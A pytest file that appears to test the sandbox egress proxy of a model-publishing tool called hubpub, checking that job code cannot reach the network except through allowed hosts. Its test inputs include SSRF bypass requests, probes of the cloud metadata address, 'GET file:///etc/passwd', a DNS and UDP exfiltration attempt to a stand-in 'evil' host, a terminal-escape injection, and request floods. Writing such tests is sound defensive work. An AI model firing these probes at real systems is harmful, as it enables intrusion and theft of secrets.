"""Jobs in the real sandbox that want out by the network, and what the report says of each."""

from __future__ import annotations

import contextlib
import hashlib
import json
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import MakeRepository, RunHubpub
from proving import DOWNLOAD, HEAD, ONCE, Proof, Prove
from proxying import Outer, certified
from publishing import Server
from rough import Listener, Rough, raw, reply

pytestmark = pytest.mark.sandbox

SAY = """
import http.client, socket, urllib.error, urllib.parse, urllib.request

def _raw(text, host="127.0.0.1"):
    with socket.create_connection((host, 3128), 10) as proxy:
        proxy.sendall(text if isinstance(text, bytes) else text.encode("latin-1"))
        return proxy.recv(1000).split(b"\\r\\n")[0].decode("latin-1")

def _found(*results):
    raise RuntimeError(json.dumps(results))

def _try(call, *arguments):
    try:
        return f"worked: {call(*arguments)}"
    except OSError as error:
        return str(error) or type(error).__name__
"""


@pytest.fixture
def trap() -> Iterator[tuple[int, list[bytes]]]:
    """A listener on the host's loopback, and what anyone sent to it."""
    heard: list[bytes] = []
    with contextlib.closing(Listener(lambda client: heard.append(client.recv(1000)))) as listener:
        yield listener.port, heard


def found(proof: object, name: str) -> list[str]:
    """What an entrypoint says that it saw."""
    status, reason = proof.axis(name)  # type: ignore[attr-defined]
    assert status == "fail"
    results: list[str] = json.loads(reason.removeprefix("RuntimeError: "))
    return results


OUT = """
def straight():
    "x"
    def tcp(host, port, family=socket.AF_INET):
        with socket.socket(family) as s:
            s.settimeout(2)
            s.connect((host, port))
    def udp(host):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"secret", (host, 53))
    six = socket.AF_INET6
    _found(_try(tcp, "127.0.0.1", PORT), _try(tcp, "169.254.169.254", 80),
           _try(tcp, "1.1.1.1", 443), _try(tcp, "::1", PORT, six),
           _try(tcp, "2606:4700::1111", 443, six),
           _try(udp, "1.1.1.1"), _try(udp, "8.8.8.8"),
           _try(socket.getaddrinfo, "secret.evil.example", 443),
           _try(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1),
           _try(socket.socket, 17, 3), _try(socket.socket, 16, 3), _try(socket.socket, 40, 1))

def by_proxy():
    "x"
    end = " HTTP/1.1\\r\\nHost: github.com\\r\\n\\r\\n"
    _found(*(_raw(line + end) for line in (
        "GET http://127.0.0.1:PORT/", "GET http://localhost:PORT/", "GET http://2130706433:PORT/",
        "GET http://[::ffff:127.0.0.1]:PORT/", "GET http://github.com@127.0.0.1:PORT/",
        "GET http://169.254.169.254/latest/meta-data/", "GET file:///etc/passwd",
        "GET ftp://127.0.0.1:PORT/", "GET /etc/passwd", "POST http://github.com/",
        "PUT http://github.com/",
        "CONNECT 127.0.0.1:PORT", "CONNECT 169.254.169.254:80", "CONNECT github.com:22",
        "CONNECT github.com:443@127.0.0.1:PORT", "OPTIONS *", "TRACE http://github.com/",
        "GET http://127.0.0.1:PORT/\\x1b]52;c;eA==\\x07\\xe2\\x80\\xae",
    )))
"""


def test_nothing_leaves_but_what_the_proxy_lets(
    prove: Prove, trap: tuple[int, list[bytes]]
) -> None:
    port, heard = trap
    proof = prove(SAY + OUT.replace("PORT", str(port)))
    straight = found(proof, "straight")
    assert len(straight) == 12
    assert not [result for result in straight if result.startswith("worked")]
    for line in found(proof, "by_proxy"):
        assert line.startswith(("HTTP/1.1 403 hubpub: ", "HTTP/1.1 400 hubpub: ")), line
    assert not heard
    log = proof.report["network"]
    assert len(log) == 18
    assert {entry["decision"] for entry in log} == {"denied"}
    assert json.dumps(log, ensure_ascii=False).isascii()
    assert "\x1b" not in proof.text
    assert "\x07" not in proof.text


DENIED = """
def by_urllib():
    "x"
    for url in ("https://files.example/x", "http://files.example:8080/m.pth"):
        try:
            urllib.request.urlopen(url)
        except urllib.error.HTTPError as error:
            print(error)
    torch.hub.load_state_dict_from_url("https://files.example/m-0a1b2c3d.pth", check_hash=True)

def by_connect():
    "x"
    connection = http.client.HTTPSConnection("127.0.0.1", 3128)
    connection.set_tunnel("files.example", 443)
    connection.request("GET", "/")

def redirected():
    "x"
    torch.hub.load_state_dict_from_url("REDIRECT")
"""


def test_a_denied_host_is_named_with_its_flag(prove: Prove, http_server: Server) -> None:
    away = "https://files.example/m.pth"
    http_server.serve({"/m.pth": (302, {"Location": away}, b"")})
    url = http_server.url("/m.pth")
    text = SAY + DENIED.replace("REDIRECT", url)
    proof = prove(text, "--allow-host", http_server.host)
    said = "hubpub: files.example:443 is not allowed; --allow-host files.example allows it"
    assert proof.axis("by_urllib") == ("fail", f"HTTPError: HTTP Error 403: {said}")
    assert proof.axis("by_connect") == (
        "fail",
        f"OSError: Tunnel connection failed: 403 {said}",
    )
    assert proof.axis("redirected") == ("fail", f"HTTPError: HTTP Error 403: {said}")
    hops = [entry for entry in proof.report["network"] if entry["url"] in {url, away}]
    assert [(hop["status"], hop["decision"], hop["location"]) for hop in hops] == [
        (302, "allowed", away),
        (None, "denied", None),
    ]
    reasons = {entry["reason"] for entry in proof.report["network"]}
    assert "files.example:8080 is not allowed; --allow-host files.example:8080 allows it" in reasons


SWALLOWS = """
def NAME():
    "A job whose download was cut says that all is well."
    try:
        _get("http://HOST/FILE", "net.pth")
    except Exception:
        pass
    return torch.nn.Linear(1, 1)
"""
CUT = {
    "length": (b"Content-Length: 9000\r\n\r\n", "after 5000 of 9000 bytes"),
    "chunked": (b"Transfer-Encoding: chunked\r\n\r\n1388\r\n", "ended early"),
    "gzip": (b"Content-Length: 9000\r\nContent-Encoding: gzip\r\n\r\n", "after 5000 of 9000"),
}


def swallows(host: str, name: str = "swallows", file: str = "net.pth") -> str:
    return SWALLOWS.replace("HOST", host).replace("NAME", name).replace("FILE", file)


def test_a_cut_download_fails_whatever_the_job_says(prove: Prove, rough: Rough) -> None:
    for name, (start, _) in CUT.items():
        rough.scripts[f"/{name}.pth"] = raw(b"HTTP/1.1 200 OK\r\n" + start + b"A" * 5000)
    text = DOWNLOAD + "".join(swallows(rough.host, name, f"{name}.pth") for name in CUT)
    proof = prove(text, "--allow-host", rough.host)
    for name, (_, said) in CUT.items():
        status, reason = proof.axis(name)
        assert (status, said in reason) == ("fail", True), reason
    assert proof.code == 1
    assert proof.report["checkpoints"] == []  # a piece is none, and nobody pins its hash


def endless(connection: socket.socket, *_: object) -> None:
    with contextlib.suppress(OSError):
        connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        while True:
            connection.sendall(bytes(1 << 16))


def test_an_endless_download_ends_at_the_limit(prove: Prove) -> None:
    server = Rough(scripts={"/net.pth": endless})
    with contextlib.closing(server):
        text = DOWNLOAD + swallows(server.host)
        proof = prove(text, "--allow-host", server.host, "--download-limit", "3MiB")
    status, reason = proof.axis("swallows")
    assert (status, "--download-limit" in reason) == ("fail", True), reason
    assert proof.report["network"][0]["bytes"] <= 3 << 20


FLOOD = """
def a_floods():
    "x"
    for number in range(1500):
        _raw("GET http://x/" + "a" * 8100 + str(number) + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    return 1

def b_waits():
    "Leaves connections half-way, more than are served at a time."
    kept = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(100)]
    for connection in kept:
        connection.sendall(b"GET http://x/")
    return 1

def c_innocent():
    "x"
    assert urllib.request.urlopen("URL").read() == b"x"
    return torch.nn.Linear(1, 1)
"""


def test_a_flood_of_requests_is_the_flooders_alone(prove: Prove, http_server: Server) -> None:
    http_server.serve({"/x": b"x"})
    url = http_server.url("/x")
    proof = prove(SAY + FLOOD.replace("URL", url), "--allow-host", http_server.host, *ONCE)
    status, reason = proof.axis("a_floods")
    assert (status, "the rest is refused" in reason) == ("fail", True), reason
    assert proof.axis("b_waits") == ("pass", "")
    assert proof.axis("c_innocent") == ("pass", "")
    log = proof.report["network"]
    assert 1000 < len(log) < 1200
    assert log[-1]["url"] == url
    assert sum(len(entry["url"]) for entry in log) < 10 << 20


TLS = """
def by_parent():
    "The loader's own way: it asks for https, the parent makes the TLS."
    state = torch.hub.load_state_dict_from_url("URL", check_hash=True, progress=False)
    model = torch.nn.Linear(1, 1)
    model.load_state_dict(state)
    return model

def by_connect():
    "The way of requests and huggingface_hub."
    import ssl
    where = urllib.parse.urlsplit("URL")
    trusting = ssl._create_unverified_context()
    connection = http.client.HTTPSConnection("127.0.0.1", 3128, context=trusting)
    connection.set_tunnel(where.hostname, where.port)
    connection.request("GET", where.path)
    assert len(connection.getresponse().read()) == SIZE
    return torch.nn.Linear(1, 1)
"""


@pytest.mark.parametrize("behind_a_proxy", [False, True])
def test_https_by_the_parent_and_by_the_job(
    hubpub: RunHubpub, repository: MakeRepository, tmp_path: Path, behind_a_proxy: bool
) -> None:
    torch = pytest.importorskip("torch", reason="the verify extra is not installed")
    torch.save(torch.nn.Linear(1, 1).state_dict(), tmp_path / "m.pth")
    data = (tmp_path / "m.pth").read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    certificate, tls = certified(tmp_path, "IP:127.0.0.1")
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(contextlib.closing(Rough(tls=tls)))
        server.scripts[f"/m-{digest[:8]}.pth"] = reply(body=data)
        outer = stack.enter_context(contextlib.closing(Outer(server.port)))
        host = server.host
        url = f"https://{host}/m-{digest[:8]}.pth"
        text = HEAD + SAY + TLS.replace("URL", url).replace("SIZE", str(len(data)))
        repository({"hubconf.py": text})
        proxies = {"HTTPS_PROXY": f"http://us:er@{outer.host}"} if behind_a_proxy else {}
        file = tmp_path / "report.json"
        done = hubpub(
            "verify", "octo/net:v1.0", "--device", "cpu", "--allow-host", host,
            "--output-format", f"json:{file}", *ONCE,
            env={"SSL_CERT_FILE": str(certificate), **proxies},
        )  # fmt: skip
    proof = Proof(done, file)
    assert (proof.axis("by_parent"), proof.axis("by_connect")) == (("pass", ""), ("pass", ""))
    assert proof.axis("by_parent", "weights") == ("pass", "")
    tunnel, whole = sorted(proof.report["network"], key=lambda entry: str(entry["method"]))
    assert (whole["url"], whole["sha256"], whole["bytes"]) == (url, digest, len(data))
    assert (tunnel["url"], tunnel["sha256"]) == (f"https://{host}", None)
    assert tunnel["bytes"] > len(data)
    tunnels = [(method, target) for method, target, _ in outer.requests]
    assert tunnels == ([("CONNECT", host)] * 2 if behind_a_proxy else [])
    assert "us:er" not in file.read_text() + proof.text
